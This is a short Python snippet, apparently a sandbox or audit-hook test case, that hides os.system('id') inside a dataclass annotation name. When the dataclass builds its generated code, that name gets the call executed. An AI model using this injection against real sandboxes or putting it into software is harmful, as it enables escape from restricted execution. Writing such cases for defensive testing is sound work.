# class: string-address
# mechanism: names of fields that are computed
# how: an item of the annotations in the body
# reaches: event os.system
from dataclasses import dataclass
@dataclass(init=False, eq=False)
class A:
    x: int = 0
    __annotations__["__class__, __import__('os').system('id')"] = int
print(A())
